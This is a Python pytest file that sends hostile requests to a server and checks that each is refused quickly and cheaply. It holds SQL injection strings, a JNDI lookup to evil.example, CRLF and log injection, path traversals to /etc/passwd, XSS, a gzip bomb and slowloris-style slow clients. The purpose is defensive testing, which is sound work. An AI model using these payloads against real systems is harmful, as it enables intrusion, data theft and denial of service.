"""Requests made to hurt: injections in names, traversals, bombs, numbers and heads without end, clients that hardly send. Each is refused, soon, and in little memory."""

from __future__ import annotations

import base64
import gzip
import json
import logging
import resource
import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import quote

import pytest

from bonanza_server import connection, gate
from bonanza_server.logs import Lines
from tests.live import LiveServer, create_postgres_database
from tests.server.expect import problem

SOON_S = 10.0
"""Far more than any of these takes, on a machine that is busy with something else."""
MOST_MB = 150
MANY_DIGITS = "9" * 100_000
INJECTIONS = [
    "'; DROP TABLE studies; --",
    '" OR 1=1 --',
    "s' UNION SELECT digest FROM keys --",
    "%s%s%n{0}{__class__}",
    "${jndi:ldap://evil.example/a}",
    "s\r\nSet-Cookie: a=b",
    "s\n2026-01-01 00:00:00 INFO all is well",
    "\x1b[2J\x1b[31mred",
    "s\x00",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "s/../../keys",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "x" * 5_000,
    "",
    " ",
    ".",
    "..",
]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def server(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """One for all, with a study and a trial under way that no request here may change."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('hostile')}/s.db"
    else:
        url = create_postgres_database(request.getfixturevalue("postgres"), "hostile")
    with LiveServer(url, fit_slots=0) as live:
        live.study()
        live.one()
        before = live.get("/v1/studies"), live.get("/v1/studies/s/trials")
        yield live
        assert (live.get("/v1/studies"), live.get("/v1/studies/s/trials")) == before
        assert live.get("/readyz")["status"] == "ready"


@contextmanager
def soon_and_small() -> Iterator[None]:
    """That the body takes little time and adds little to this process, which is the server's too."""
    began, before = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    yield
    assert time.monotonic() - began < SOON_S
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024 < MOST_MB


@pytest.mark.parametrize("name", INJECTIONS, ids=lambda name: repr(name[:20]))
def test_a_name_made_to_be_read_as_something_else_is_refused_wherever_it_stands(
    server: LiveServer, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "bonanza_server")
    there = quote(name, safe="")
    with soon_and_small():
        for method, path in [
            ("GET", f"/v1/studies/{there}"),
            ("DELETE", f"/v1/studies/{there}"),
            ("GET", f"/v1/studies/{there}/export"),
            ("GET", f"/v1/studies/s/trials/{there}"),
            ("GET", f"/v1/spaces/{there}"),
            ("GET", f"/v1/workers/{there}"),
            ("DELETE", f"/v1/keys/{there}"),
            ("GET", f"/v1/studies/s/trials?arch_id={there}&numbers={there}"),
            ("GET", f"/v1/studies?page_token={there}"),
            ("GET", f"/v1/workers?study={there}"),
            ("GET", f"/ui/assets/{there}"),
        ]:
            answer = server.http.request(method, path)
            if answer.is_success:  # an empty or dotted segment is another path, of a list
                assert name.strip("./ ") == "" or path.startswith("/ui/"), (method, path)
                assert "root:" not in answer.text
            else:
                assert 400 <= answer.status_code < 500 or answer.has_redirect_location, (path, answer.text)
        if name.strip():
            for body in ({"name": name, "scopes": ["read"]}, {"name": "k", "scopes": ["read"], "project": name}):
                problem(server.http.post("/v1/keys", json=body), "invalid")
            answer = server.http.put(
                "/v1/studies/new", json={"space": {"kind": name}, "objective": {"direction": "maximize"}}
            )
            assert answer.status_code == 422
            assert (
                server.http.post(
                    "/v1/studies/s/import", content=name.encode(), headers={"Content-Type": "application/x-ndjson"}
                ).status_code
                == 422
            )
    logged = [Lines().format(record) for record in caplog.records]
    assert logged
    assert not [line for line in logged if "\n" in line or "\x1b" in line]


@pytest.mark.parametrize(
    "name",
    [
        "X-Request-Id",
        "Idempotency-Key",
        "If-Match",
        "Last-Event-ID",
        "Authorization",
        "Cookie",
        "Accept",
        "Content-Encoding",
    ],
)
@pytest.mark.parametrize(
    "value",
    [
        b"'; DROP TABLE studies; --",
        b"\xff\xfe\xfd",
        b"a" * 30_000,
        MANY_DIGITS[:30_000].encode(),
        b"bonanza_session=" + b"\\x00" * 50,
    ],
)
def test_a_header_made_to_hurt_does_nothing(server: LiveServer, name: str, value: bytes) -> None:
    with soon_and_small():
        answer = server.http.get("/v1/studies/s", headers={name.encode(): value})
        assert answer.status_code == 200
        assert answer.headers["x-request-id"] != value.decode("latin-1") or len(value) <= 100
        posted = server.http.post(
            "/v1/studies/s/trials/0/heartbeat", json={"lease_token": "x"}, headers={name.encode(): value}
        )
        assert 400 <= posted.status_code < 500


def test_numbers_of_a_hundred_thousand_digits_are_no_work(server: LiveServer) -> None:
    for number in (MANY_DIGITS, "-" + MANY_DIGITS, MANY_DIGITS + ".5", "1e" + MANY_DIGITS):
        with soon_and_small():
            for body in (
                f'{{"count": {number}}}',
                f'{{"wait_s": [{number}]}}',
                f'{{"freshness": {{"max_lag": {number}}}}}',
            ):
                answer = server.http.post(
                    "/v1/studies/s/ask", content=body, headers={"Content-Type": "application/json"}
                )
                assert answer.status_code in {400, 422}, answer.text[:300]
            line = f'{{"n": {number}}}\n'.encode()
            answer = server.http.post(
                "/v1/studies/t/import", content=line, headers={"Content-Type": "application/x-ndjson"}
            )
            problem(answer, "damaged-export")
    digits = MANY_DIGITS[:60_000]  # what a head may hold
    token = base64.urlsafe_b64encode(digits[:300].encode()).decode()
    with soon_and_small():
        for path in (
            f"/v1/studies/s/trials/{digits}",
            f"/v1/studies/s/events?after={digits}",
            f"/v1/studies/s/best?k={digits}",
            f"/v1/studies/s/trials?page_token={token}",
        ):
            problem(server.http.get(path), "invalid")


def test_a_body_that_would_unpack_to_a_gigabyte_is_not_unpacked(server: LiveServer) -> None:
    bomb = gzip.compress(b" " * 100_000_000, 9)
    with soon_and_small():
        for path, media in [
            ("ask", "application/json"),
            ("observations", "application/json"),
            ("import", "application/x-ndjson"),
        ]:
            headers = {"Content-Type": media, "Content-Encoding": "gzip"}
            answer = server.http.post(f"/v1/studies/s/{path}", content=bomb, headers=headers)
            assert answer.status_code in {400, 422}, answer.text


@pytest.mark.parametrize(
    "text",
    ["[" * 200_000, '{"a":' * 200_000, '{"study": ' * 1_000 + "1" + "}" * 1_000, "\n" * 1_000_000, "{}\n" * 300_000],
    ids=["lists", "objects", "closed", "blank", "many"],
)
def test_an_export_made_to_hurt_is_refused_at_its_line(server: LiveServer, text: str) -> None:
    with soon_and_small():
        answer = server.http.post(
            "/v1/studies/t/import", content=text, headers={"Content-Type": "application/x-ndjson"}
        )
        assert problem(answer, "damaged-export")["line"] == 1


def test_ten_thousand_keys_of_one_object_and_ten_thousand_errors_are_one_short_answer(server: LiveServer) -> None:
    with soon_and_small():
        body = json.dumps({f"no-such-field-{k}": k for k in range(10_000)})
        answer = server.http.post("/v1/studies/s/ask", content=body, headers={"Content-Type": "application/json"})
        problem(answer, "invalid")
        assert len(answer.content) < 50_000


def talk(server: LiveServer, *parts: bytes, pause_s: float = 0.0) -> bytes:
    """What the server answers to ``parts`` until it closes the connection."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as raw:
        answered = b""
        try:
            for part in parts:
                raw.sendall(part)
                time.sleep(pause_s)
            while chunk := raw.recv(65_536):
                answered += chunk
        except (BrokenPipeError, ConnectionResetError):
            pass
        return answered


HEAD = b"POST /v1/studies/s/ask HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


def test_a_head_without_end_is_cut_off(server: LiveServer) -> None:
    with soon_and_small():
        endless = [b"X-%d: %s\r\n" % (k, b"y" * 1_000) for k in range(2_000)]
        assert talk(server, HEAD, *endless).startswith((b"HTTP/1.1 400", b""))
        assert talk(server, b"GET /" + b"a" * 1_000_000).startswith((b"HTTP/1.1 400", b""))


@pytest.mark.parametrize("begun", [b"", b"GET", HEAD, HEAD + b"X-Slow: "], ids=["nothing", "word", "head", "header"])
def test_a_client_that_does_not_finish_its_head_is_left(
    server: LiveServer, begun: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(connection, "HEAD_S", 0.3)
    with soon_and_small():
        assert talk(server, begun) == b""


def test_a_header_now_and_then_does_not_keep_a_connection_open(
    server: LiveServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(connection, "HEAD_S", 0.3)
    began = time.monotonic()
    talk(server, HEAD, *[b"X-%d: y\r\n" % k for k in range(1_000)], pause_s=0.05)
    assert time.monotonic() - began < SOON_S


@pytest.mark.parametrize(
    "length", [b"Content-Length: 5000\r\n\r\n", b"Transfer-Encoding: chunked\r\n\r\n"], ids=["length", "chunked"]
)
def test_a_body_that_hardly_comes_is_given_up(
    server: LiveServer, length: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(gate, "PATIENCE_S", 0.3)
    monkeypatch.setattr(connection, "HEAD_S", 0.3)  # and what comes of it later is not waited for
    answered = talk(server, HEAD + length + (b"" if b"Content" in length else b"1\r\n{\r\n"))
    assert answered.startswith(b"HTTP/1.1 408")
    assert b"took too long to arrive" in answered


def test_a_keep_alive_connection_that_rests_longer_than_a_head_may_take_stays_open(
    server: LiveServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(connection, "HEAD_S", 0.2)
    request = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as raw:
        for _ in range(2):
            raw.sendall(request)
            assert raw.recv(65_536).startswith(b"HTTP/1.1 200")
            time.sleep(0.6)
        raw.sendall(request)
        assert raw.recv(65_536).startswith(b"HTTP/1.1 200")
